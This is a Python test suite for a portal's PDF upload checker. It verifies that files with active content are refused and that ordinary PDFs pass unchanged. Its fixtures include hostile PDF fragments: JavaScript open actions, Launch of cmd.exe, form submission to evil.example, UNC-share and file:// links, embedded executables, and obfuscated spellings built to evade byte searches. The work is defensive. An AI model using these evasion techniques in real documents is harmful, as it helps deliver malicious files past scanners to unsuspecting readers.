"""FAULTS 11: a PDF with a program is refused however it is spelled; ordinary PDFs are taken as they are.

The control: the words that a search of the file's bytes would look for are not in most of these files.
"""

import io
from collections.abc import Callable

import pypdf
import pytest
import weasyprint
from pypdf.generic import DictionaryObject, IndirectObject
from reportlab.pdfgen import canvas

from portal.core.files.checking import check_upload
from portal.core.files.pdf_syntax import Dictionary, Sweep
from portal.core.pdf.documents import render_document
from tests.hostile_pdfs import (
    HARMLESS,
    PROGRAM,
    STARTED,
    document,
    hybrid,
    object_stream,
    packed,
    plain,
    refusal,
    stream,
    updated,
)

FILE = {8: b"<</Type/Filespec/F(a.exe)/EF<</F 9 0 R>>>>"}
ACTIONS = {
    "JavaScript": PROGRAM,
    "Launch": b"<</S/Launch/F(cmd.exe)>>",
    "Launch with its kind elsewhere": b"<</S 7 0 R/F(cmd.exe)>>",
    "SubmitForm": b"<</S/SubmitForm/F(https://evil.example)>>",
    "ImportData": b"<</S/ImportData/F(a.fdf)>>",
    "GoToR": b"<</S/GoToR/F(\\\\\\\\evil\\\\share\\\\a.pdf)/D[0/Fit]>>",
    "GoToE": b"<</S/GoToE/T<</R/C/N(a)>>/D[0/Fit]>>",
    "Rendition": b"<</S/Rendition/OP 0/JS(app.alert(1))>>",
    "a second action behind a harmless one": b"<</S/GoTo/D[3 0 R/Fit]/Next<</S/Launch/F(cmd.exe)>>>>",
    "URI javascript": b"<</S/URI/URI(java\\163cript:alert\\(1\\))>>",
    "URI file": b"<</S/URI/URI(file:///C:/Windows/System32/calc.exe)>>",
    "URI share": b"<</S/URI/URI(\\\\\\\\evil\\\\share)>>",
    "URI in UTF-16": b"<</S/URI/URI<FEFF" + "javascript:alert(1)".encode("utf-16-be").hex().encode() + b">>>",
    "URI elsewhere": b"<</S/URI/URI 6 0 R>>",
    "URI that opens by itself": b"<</S/URI/URI(https://evil.example/seen)>>",
}
ELSEWHERE = {6: b"(javascript:alert(1))", 7: b"/Launch"}


@pytest.mark.parametrize("action", ACTIONS.values(), ids=ACTIONS)
@pytest.mark.parametrize("write", [plain, packed])
def test_no_action_but_going_to_a_place_starts_by_itself(action: bytes, write: Callable[..., bytes]) -> None:
    assert refusal(write(document(b"/OpenAction " + action, more=ELSEWHERE))) == "active_content"
    assert refusal(write(document(b"/OpenAction 5 0 R", more={5: action, **ELSEWHERE}))) == "active_content"


PLACES = {
    "names tree": document(b"/Names<</JavaScript<</Names[(a)5 0 R]>>>>", more={5: PROGRAM}),
    "actions of the document": document(b"/AA<</WC 5 0 R>>", more={5: PROGRAM}),
    "actions of a page": document(page=b"/AA<</O<</S/GoTo/D[3 0 R/Fit]>>>>"),
    "actions of a field": document(b"/AcroForm<</Fields[5 0 R]>>", more={5: b"<</T(a)/AA<</K 6 0 R>>>>"}),
    "an annotation": document(page=b"/Annots[<</Subtype/Link/Rect[0 0 9 9]/A<</S/Launch/F(cmd.exe)>>>>]"),
    "its further action": document(page=b"/Annots[<</Subtype/Link/Rect[0 0 9 9]/PA<</S/URI/URI(file:///a)>>>>]"),
    "an outline": document(b"/Outlines<</First 5 0 R>>", more={5: b"<</A<</S/JavaScript/JS 6 0 R>>>>"}),
    "a file": document(b"/Names<</EmbeddedFiles<</Names[(a)8 0 R]>>>>", more=FILE),
    "a file that no tree names": document(b"/AF[8 0 R]", more=FILE),
    "an attachment": document(page=b"/Annots[<</Subtype/FileAttachment/Rect[0 0 9 9]/FS 8 0 R>>]", more=FILE),
    "a form of XFA": document(b"/AcroForm<</Fields[]/XFA 5 0 R>>", more={5: stream(b"<xdp/>")}),
    "RichMedia": document(page=b"/Annots[<</Subtype/RichMedia/Rect[0 0 9 9]>>]"),
    "Movie": document(page=b"/Annots[<</Subtype/Movie/Rect[0 0 9 9]>>]"),
    "Sound": document(page=b"/Annots[<</Subtype/Sound/Rect[0 0 9 9]>>]"),
    "Screen": document(page=b"/Annots[<</Subtype/Screen/Rect[0 0 9 9]>>]"),
    "3D": document(page=b"/Annots[<</Subtype/3D/Rect[0 0 9 9]>>]"),
    "a stream that lies outside": document(more={5: b"<</Length 0/F(\\\\\\\\evil\\\\a)>>stream\n\nendstream"}),
    "a base of links": document(b"/URI<</Base(file:///C:/)>>"),
}


@pytest.mark.parametrize("objects", PLACES.values(), ids=PLACES)
@pytest.mark.parametrize("write", [plain, packed])
def test_nothing_active_stands_in_any_place(objects: dict[int, bytes], write: Callable[..., bytes]) -> None:
    assert refusal(write(objects)) == "active_content"


SPELLINGS = {
    "plain": plain(STARTED),
    "escaped names": plain(document(b"/Open#41ction<</S/J#61v#61Script/#4a#53(app.alert(1))>>")),
    "spaces and comments": plain(document(b"/OpenAction%x\n\0<<\f/S\r\n/JavaScript%\n/JS\t(app.alert(1))>>")),
    "packed": packed(STARTED),
    "an earlier revision": updated(plain(STARTED), HARMLESS),
    "a later revision": updated(plain(HARMLESS), STARTED),
    "the last of three": updated(updated(plain(HARMLESS), {4: b"null"}), STARTED),
    "a hybrid cross-reference": hybrid(document(b"/OpenAction 5 0 R"), {5: PROGRAM}),
    "no cross-reference names it": plain(HARMLESS) + b"5 0 obj\n" + PROGRAM + b"\nendobj\n",
    "a catalog that only a repair would find": plain(HARMLESS) + b"1 0 obj" + STARTED[1] + b"endobj 5 0 obj" + PROGRAM,
    "a stream that lies outside of the file": plain({**HARMLESS, 5: b"<</F(\\\\\\\\evil)>>stream\n\nendstream"}),
    "inside of another stream": plain({**HARMLESS, 5: b"<<>>stream\n6 0 obj" + PROGRAM + b"\nendstream"}),
    "behind a comment": plain(HARMLESS) + b"6%\n0%\nobj" + PROGRAM,
    "inside of an object that does not end": plain({**HARMLESS, 5: b"<</A endobj 6 0 obj" + PROGRAM}),
    "the program is a stream": plain(document(b"/OpenAction<</S/JavaScript/JS 5 0 R>>", more={5: stream(b"x")})),
    "the program is in UTF-16": plain(document(b"/OpenAction<</S/JavaScript/JS<FEFF0061>>>")),
    "one key twice": plain(document(b"/OpenAction[3 0 R/Fit]/OpenAction 5 0 R", more={5: PROGRAM})),
    "an object stream without its type": plain({**HARMLESS, 5: stream(b"6 0 " + PROGRAM, b"/N 1/First 4")}),
    "an object stream whose first object swallows the second": plain(
        {**HARMLESS, 5: stream(b"6 0 7 2 (( " + PROGRAM, b"/Type/ObjStm/N 2/First 8")}
    ),
    "markup before the document": plain(HARMLESS, header=b"%PDF-1.7\n<html><script>alert(1)</script>\n"),
    "an archive behind the document": plain(HARMLESS) + b"PK\5\6" + b"\0" * 18,
}


@pytest.mark.parametrize("content", SPELLINGS.values(), ids=SPELLINGS)
def test_a_program_is_seen_in_every_spelling(content: bytes) -> None:
    assert refusal(content) == "active_content"


def _encrypted() -> bytes:
    writer = pypdf.PdfWriter(clone_from=io.BytesIO(plain(STARTED)))
    writer.encrypt("", "owner", algorithm="RC4-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


UNREADABLE = {
    "a heading of junk": (b"\0" * 1024 + plain(HARMLESS), "type"),
    "an empty password": (_encrypted(), "active_content"),
    "an empty password and no program": (plain(HARMLESS, trailer=b"/Encrypt 9 0 R"), "encrypted"),
    "truncated": (plain(HARMLESS)[:-60], "broken"),
    "half": (plain(HARMLESS)[:120], "broken"),
    "no pages": (plain({**HARMLESS, 2: b"<</Type/Pages/Kids[]/Count 0>>"}), "broken"),
    "pages that hold themselves": (plain({**HARMLESS, 2: b"<</Type/Pages/Kids[2 0 R]/Count 1>>"}), "broken"),
    "an object stream of another filter": (
        plain({**HARMLESS, 5: b"<</Type/ObjStm/N 1/First 4/Filter/LZWDecode>>stream\nxx\nendstream"}),
        "broken",
    ),
    **{
        f"an object stream of the filter {name.decode()}": (
            plain({**HARMLESS, 5: b"<</Type/ObjStm/N 1/First 4/Filter%s>>stream\n6 0 null\nendstream" % name}),
            "broken",
        )
        for name in (b"[<<>>]", b"[[/FlateDecode]]", b"<<>>", b"[" + b"/Fl " * 9 + b"]")
    },
    "an object stream of two headings": (plain({**HARMLESS, 5: stream(b"6 0 []", b"/N 1/First 4/First 0")}), "broken"),
    "nesting": (plain({**HARMLESS, 5: b"[" * 1000}), "too_complex"),
    "strings without end": (plain(HARMLESS) + b"obj(" * 400_000, "too_complex"),
    "arrays without end": (plain(HARMLESS) + b"obj[" * 400_000, "too_complex"),
    "comments without end": (plain(HARMLESS) + b"obj%" * 400_000, "too_complex"),
}


def test_an_object_stream_that_unpacks_to_70_mb_is_refused() -> None:
    assert refusal(plain({**HARMLESS, 5: object_stream({6: b" " * 70_000_000})})) == "too_complex"


@pytest.mark.parametrize(("content", "code"), UNREADABLE.values(), ids=UNREADABLE)
def test_what_cannot_be_looked_into_is_refused(content: bytes, code: str, caplog: pytest.LogCaptureFixture) -> None:
    assert refusal(content) == code
    assert "The PDF checker failed" not in caplog.text


ORDINARY = {
    "a link": document(page=b"/Annots[<</Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(https://gov.ru)>>>>]"),
    "a letter": document(page=b"/Annots[<</Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(mailto:a@b.ru)>>>>]"),
    "a law database": document(page=b"/Annots[<</Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(consultantplus://x)>>>>]"),
    "a place to open": document(b"/OpenAction[3 0 R/Fit]"),
    "an action that goes there": document(b"/OpenAction<</S/GoTo/D[3 0 R/Fit]>>"),
    "print when opened": document(b"/OpenAction<</S/Named/N/Print>>"),
    "a font called AA": document(page=b"/Resources<</Font<</AA 5 0 R>>>>", more={5: b"<</Type/Font/BaseFont/Arial>>"}),
    "a blend mode": document(page=b"/Resources<</ExtGState<</G<</BM/Screen>>>>>>"),
    "a form": document(b"/AcroForm<</Fields[5 0 R]>>", more={5: b"<</FT/Tx/T(a)/V(b)>>"}),
    "a signature": document(
        b"/AcroForm<</Fields[5 0 R]/SigFlags 3>>",
        more={5: b"<</FT/Sig/T(s)/V<</Type/Sig/Filter/Adobe.PPKLite/ByteRange[0 9 9 9]/Contents<3080>>>>>"},
    ),
    "text that speaks of objects": document(page=b"/Title(an object stream of JavaScript)"),
}


@pytest.mark.parametrize("objects", ORDINARY.values(), ids=ORDINARY)
@pytest.mark.parametrize("write", [plain, packed])
def test_an_ordinary_document_is_taken_byte_for_byte(objects: dict[int, bytes], write: Callable[..., bytes]) -> None:
    content = write(objects)
    assert check_upload(io.BytesIO(content), "a.pdf").content == content


def _of_reportlab() -> bytes:
    out = io.BytesIO()
    page = canvas.Canvas(out)
    page.linkURL("https://gov.ru", (0, 0, 50, 50))
    page.acroForm.textfield(name="a", x=50, y=50)
    page.bookmarkPage("a")
    page.addOutlineEntry("a", "a")
    page.showPage()
    page.save()
    return out.getvalue()


def _of_weasyprint() -> bytes:
    return weasyprint.HTML(string="<h1>Акт</h1><a href='https://gov.ru'>x</a><input>").write_pdf(pdf_forms=True)  # type: ignore[no-any-return]


def _of_ours() -> bytes:
    return render_document("pdf/points.html", {"title": "Акт", "subtitle": "x", "points": (("a", "b"),)})


def _of_pypdf() -> bytes:
    writer = pypdf.PdfWriter(clone_from=io.BytesIO(_of_weasyprint()))
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


PROGRAMS = {"ours": _of_ours, "reportlab": _of_reportlab, "weasyprint": _of_weasyprint, "pypdf": _of_pypdf}


@pytest.mark.django_db
@pytest.mark.parametrize("made", PROGRAMS.values(), ids=PROGRAMS)
def test_documents_of_usual_programs_are_taken(made: Callable[[], bytes]) -> None:
    assert refusal(made()) == ""


@pytest.mark.django_db
@pytest.mark.parametrize("made", PROGRAMS.values(), ids=PROGRAMS)
def test_the_sweep_sees_whatever_another_reader_sees(made: Callable[[], bytes]) -> None:
    """Every key that pypdf reaches from the trailer was seen by the sweep, which follows no cross-reference."""
    content = made()
    assert _keys_of_pypdf(content) <= _keys_of_sweep(content)


def _keys_of_pypdf(content: bytes) -> set[str]:
    reader = pypdf.PdfReader(io.BytesIO(content))
    keys, waiting, seen = set(), [reader.root_object], set()
    while waiting:
        here = waiting.pop()
        if isinstance(here, IndirectObject):
            if here.idnum in seen:
                continue
            seen.add(here.idnum)
            here = here.get_object()
        if isinstance(here, DictionaryObject):
            keys |= {key.removeprefix("/") for key in here}
            waiting += here.values()
        elif isinstance(here, list):
            waiting += here
    return keys


def _keys_of_sweep(content: bytes) -> set[str]:
    keys, waiting = set(), [value for pdf_object in Sweep(content).objects() for value in pdf_object.values]
    while waiting:
        here = waiting.pop()
        if isinstance(here, Dictionary):
            keys |= {key for key, _value in here.pairs}
            waiting += [value for _key, value in here.pairs]
        elif isinstance(here, list):
            waiting += here
    return keys
